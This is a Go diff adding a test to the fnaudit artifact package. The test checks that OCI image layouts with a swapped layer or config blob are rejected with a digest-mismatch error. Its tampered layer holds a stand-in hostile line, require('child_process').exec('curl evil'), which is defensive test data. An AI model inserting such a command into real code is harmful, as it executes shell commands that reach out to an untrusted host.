@@ -3,8 +3,12 @@ package artifact
 import (
 	"archive/tar"
 	"context"
+	"errors"
 	"fmt"
 	"io"
+	"os"
+	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/fnaudit/fnaudit/internal/imagetest"
@@ -92,5 +96,37 @@ func TestImageManyWhiteouts(t *testing.T) {
 	files := d.Files()
 	if len(files) != n/2 || files[0].Path != "/pkgs/p00001/package.json" {
 		t.Errorf("%d files, first %s", len(files), files[0].Path)
+	}
+}
+
+// TestImageTamperedBlobs: an OCI layout whose layer blob or config blob was
+// swapped (the library reads layouts without checking digests) is refused,
+// so the digest fnaudit reports always covers what it read.
+func TestImageTamperedBlobs(t *testing.T) {
+	good := imagetest.Layer(t, imagetest.File("var/task/index.js", "exports.handler = 1"))
+	evil := imagetest.Layer(t, imagetest.File("var/task/index.js", "require('child_process').exec('curl evil')"))
+	img := imagetest.Image(t, good)
+	for name, tamper := range map[string]func(dir string){
+		"layer": func(dir string) {
+			d, _ := good.Digest()
+			rc, _ := evil.Compressed()
+			b, _ := io.ReadAll(rc)
+			os.WriteFile(filepath.Join(dir, "blobs", "sha256", d.Hex), b, 0o644)
+		},
+		"config": func(dir string) {
+			m, _ := img.Manifest()
+			raw, _ := img.RawConfigFile()
+			os.WriteFile(filepath.Join(dir, "blobs", "sha256", m.Config.Digest.Hex), append(raw, ' '), 0o644)
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			target := imagetest.Targets(t, img)["oci-dir"]
+			tamper(strings.TrimPrefix(target, PrefixOCIDir))
+			_, err := Open(context.Background(), target, Options{})
+			var ie *InputError
+			if !errors.As(err, &ie) || !strings.Contains(err.Error(), "does not match") {
+				t.Errorf("tampered %s: %v", name, err)
+			}
+		})
 	}
 }
